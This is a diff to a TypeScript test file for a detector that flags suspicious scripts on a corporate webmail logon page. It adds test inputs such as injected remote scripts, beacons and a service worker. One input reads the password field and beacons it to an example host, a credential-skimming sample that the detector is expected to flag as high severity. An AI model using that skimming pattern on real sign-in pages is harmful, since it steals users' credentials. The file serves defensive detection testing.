@@ -25,8 +25,58 @@ const signIn = (code: string) =>
     `<form action="/session" method="post"><input type="password" id="password"></form>\n<script>${code}</script>`,
   );
 
+const known = {
+  context: { artifact: fakeArtifact({ windowsPath: `${AUTH}logon.aspx` }), names: ['mail.corp.example'] },
+};
+const STATISTICS =
+  'var u = "https://HOST/"; var g = document.createElement("script"); g.src = u + "matomo.js"; document.body.appendChild(g);';
+const statistics = (host: string) => logon(`<script>${STATISTICS.replace('HOST', host)}</script>`);
+
 testDetector(detector, {
   hits: [
+    {
+      name: 'statistics of a host of the company, and of others: of somebody, of the server itself, of a suffix that many share',
+      input: statistics('stats.corp.example'),
+      ...known,
+      detections: [{ message: 'made', at: { line: 3 }, severity: 'low' }],
+    },
+    ...['stats.corp.example.net', 'mail.corp.example', 'statscorp.example'].map((host) => ({
+      name: `statistics of ${host}, which is none of the company, or the server itself`,
+      input: statistics(host),
+      ...known,
+      detections: [{ message: 'made' as const, at: { line: 3 }, severity: 'medium' as const }],
+    })),
+    {
+      name: 'a challenge of a host of the company',
+      input: logon('<script src="https://challenge.corp.example/v0/api.js"></script>'),
+      ...known,
+      detections: [{ message: 'loaded', at: { line: 3 }, severity: 'low' }],
+    },
+    {
+      name: 'times of the page, sent to the site itself',
+      input: logon(
+        '<script>window.onload = function () { navigator.sendBeacon("/owa/plt1.ashx", JSON.stringify(performance.timing)); };</script>',
+      ),
+      ...known,
+      detections: [{ message: 'channel', at: { line: 3 }, severity: 'low' }],
+    },
+    {
+      name: 'what is typed, sent to a host of the company',
+      input: logon(
+        '<script>function s() { navigator.sendBeacon("https://stats.corp.example/b", document.getElementById("password").value); }</script>',
+      ),
+      ...known,
+      detections: [
+        { message: 'sent', at: { line: 3 }, severity: 'high' },
+        { message: 'channel', at: { line: 3 }, severity: 'medium' },
+      ],
+    },
+    {
+      name: 'a worker that outlives the page',
+      input: logon('<script>navigator.serviceWorker.register("/owa/auth/sw.js");</script>'),
+      ...known,
+      detections: [{ message: 'channel', at: { line: 3 }, severity: 'medium' }],
+    },
     {
       name: 'server code that sends some visitors on to another host',
       input: logon(
@@ -213,6 +263,12 @@ testDetector(detector, {
         'aspx',
         `<%@ Page Inherits="Microsoft.Exchange.HttpProxy.Logon, Microsoft.Exchange.FrontEndHttpProxy" %>\n${FORM}`,
       ),
+      ...page,
+      looksAlike: true,
+    },
+    {
+      name: 'script of the product behind what the server fills in',
+      input: logon('<script src="<%= ScriptFolder() %>flogon.js"></script>'),
       ...page,
       looksAlike: true,
     },
